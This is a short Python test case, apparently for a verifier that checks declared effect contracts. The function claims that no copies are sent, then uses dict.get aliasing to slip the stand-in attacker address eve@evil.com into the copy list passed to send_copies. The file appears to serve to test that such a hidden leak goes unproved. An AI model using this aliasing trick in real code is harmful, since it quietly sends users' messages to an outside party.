# not proved: get gives the object itself
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_copies


@lictor_layer.guarantee(c.copies_are([]))
def main() -> None:
    d = {"k": []}
    d.get("k", []).append("eve@evil.com")
    send_copies("bob@example.com", d["k"])
